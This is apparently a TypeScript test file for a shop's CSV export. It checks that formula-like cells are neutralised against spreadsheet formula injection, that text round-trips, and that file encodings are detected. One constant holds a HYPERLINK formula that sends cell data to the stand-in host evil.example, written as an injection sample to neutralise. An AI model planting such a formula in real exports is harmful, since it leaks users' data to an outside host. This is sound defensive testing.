import fc from 'fast-check';
import Papa from 'papaparse';
import { describe, expect, test } from 'vitest';
import { csvFile, decodeText, EncodingError, neutralisedCell, restoredCell } from './csv';

const HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")';
const utf8 = (text: string) => new TextEncoder().encode(text);
/** Bytes as a Windows program in Western Europe saves them: one byte per character. */
const latin1 = (text: string) => Uint8Array.from(text, (ch) => ch.charCodeAt(0));

/** What a spreadsheet program gets: the file's bytes, read as UTF-8 and split into cells. */
function opened(file: string) {
  const bytes = utf8(file);
  const text = new TextDecoder('utf-8', { ignoreBOM: true }).decode(bytes);
  // A spreadsheet opening our file splits at commas; Papa would guess another delimiter from odd cells.
  const rows = Papa.parse<string[]>(text.replace(/^\uFEFF/, ''), { delimiter: ',', newline: '\r\n' }).data;
  // The last line break ends the last row; Papa reads an empty row after it.
  if (rows.at(-1)?.join('') === '' && rows.at(-1)?.length === 1) rows.pop();
  return { bytes, rows };
}

describe('the CSV files the shop writes', () => {
  test('a formula cell is written as text, behind an apostrophe; numbers, accents and Japanese stay as they are', () => {
    const file = csvFile(
      ['name', 'city', 'phone', 'note', 'amount', 'quantity', 'change'],
      [
        [HYPERLINK, 'Zürich', '+41 44 668 18 00', '@SUM(A1:A9)', '-12.50', 2, '-2'],
        ['山田 花子', '東京都', '\t=1+1', '\r=2', '0.00', null, '+6'],
        ['-1+1', "'=already", "'plain", '-', '=', 'x=1', '3-4'],
      ],
    );
    const { bytes, rows } = opened(file);
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(rows).toEqual([
      ['name', 'city', 'phone', 'note', 'amount', 'quantity', 'change'],
      [`'${HYPERLINK}`, 'Zürich', "'+41 44 668 18 00", "'@SUM(A1:A9)", '-12.50', '2', '-2'],
      ['山田 花子', '東京都', "'\t=1+1", "'\r=2", '0.00', '', "'+6"],
      ["'-1+1", "''=already", "'plain", "'-", "'=", 'x=1', '3-4'],
    ]);
    expect(file.endsWith('\r\n')).toBe(true);
  });

  test('an export without rows still names its columns', () => {
    expect(csvFile(['order', 'status'], [])).toBe('\uFEFForder,status\r\n');
  });

  test('reading a cell back undoes exactly what writing it did, for any text', () => {
    const text = fc.string({ unit: fc.constantFrom("'", '=', '+', '-', '@', '\t', '\r', '\0', '1', '.', 'a', ' ', 'é') });
    fc.assert(
      fc.property(text, (cell) => restoredCell(neutralisedCell(cell)) === cell),
      { seed: 2027, numRuns: 2000 },
    );
    fc.assert(
      fc.property(fc.array(fc.array(fc.string(), { minLength: 2, maxLength: 2 }), { maxLength: 5 }), (rows) => {
        const back = opened(csvFile(['a', 'b'], rows)).rows.slice(1);
        expect(back.map((row) => row.map(restoredCell))).toEqual(rows);
      }),
      { seed: 2027, numRuns: 2000 },
    );
  });
});

describe('reading a file in the encoding it has', () => {
  test('UTF-8, with or without a byte order mark', () => {
    expect(decodeText(utf8('Handle,Title\nzoe,Zoë 山田\n'))).toBe('Handle,Title\nzoe,Zoë 山田\n');
    expect(decodeText(utf8('\uFEFFHandle,Title\nzoe,Zoë\n'))).toBe('Handle,Title\nzoe,Zoë\n');
  });

  test('refuses bytes that are not UTF-8, naming the line and byte and what the line is in windows-1252', () => {
    const bytes = latin1('Handle,Title\ncafe,Café Crème\n');
    const refused = (() => {
      try {
        decodeText(bytes);
      } catch (error) {
        return error;
      }
    })();
    expect(refused).toBeInstanceOf(EncodingError);
    expect((refused as EncodingError).at).toEqual({ line: 2, byte: 9 });
    expect((refused as EncodingError).message).toBe(
      'byte 9 of line 2 (0xE9) is not UTF-8; in windows-1252 the line reads "cafe,Café Crème"',
    );
    // A cut-off sequence at the very end, and a stray byte on the first line, are found too.
    expect(() => decodeText(Uint8Array.of(0x61, 0xe3, 0x81))).toThrow('byte 2 of line 1 (0xE3) is not UTF-8');
    expect(() => decodeText(Uint8Array.of(0xff, 0x61))).toThrow('byte 1 of line 1 (0xFF) is not UTF-8');
    // Encoded surrogates and overlong forms are not UTF-8 either.
    expect(() => decodeText(Uint8Array.of(0x61, 0xed, 0xa0, 0x80))).toThrow('byte 2 of line 1 (0xED)');
    expect(() => decodeText(Uint8Array.of(0xc0, 0xaf))).toThrow('byte 1 of line 1 (0xC0)');
  });

  test('reads the encoding it is told; a byte order mark wins over a wrong label', () => {
    expect(decodeText(latin1('cafe,Café Crème'), 'windows-1252')).toBe('cafe,Café Crème');
    expect(decodeText(latin1('cafe,Café Crème'), 'ISO-8859-1')).toBe('cafe,Café Crème');
    expect(decodeText(utf8('\uFEFFcafe,Café'), 'latin1')).toBe('cafe,Café');
    const utf16 = Uint8Array.of(0xff, 0xfe, ...[...'Zoë'].flatMap((ch) => [ch.charCodeAt(0), 0]));
    expect(decodeText(utf16)).toBe('Zoë');
    expect(decodeText(Uint8Array.of(0x93, 0xfa, 0x96, 0x7b), 'shift_jis')).toBe('日本');
    expect(() => decodeText(Uint8Array.of(0x61), 'klingon')).toThrow('"klingon" is not an encoding this shop knows');
    expect(() => decodeText(Uint8Array.of(0x82), 'shift_jis')).toThrow('the bytes are not valid shift_jis');
  });
});
